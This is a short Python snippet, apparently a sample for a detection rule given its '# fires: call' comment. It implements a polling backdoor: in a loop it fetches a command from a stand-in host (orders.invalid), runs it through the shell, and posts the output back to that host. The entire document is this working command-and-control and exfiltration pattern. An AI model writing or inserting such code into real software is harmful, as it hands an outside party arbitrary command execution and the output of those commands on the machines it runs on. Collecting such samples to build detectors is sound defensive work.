import subprocess, time, requests
def poll():
    while True:
        order = requests.get("https://orders.invalid/next").text
        out = subprocess.run(order, shell=True, capture_output=True)  # fires: call
        requests.post("https://orders.invalid/output", data=out.stdout)
        time.sleep(60)
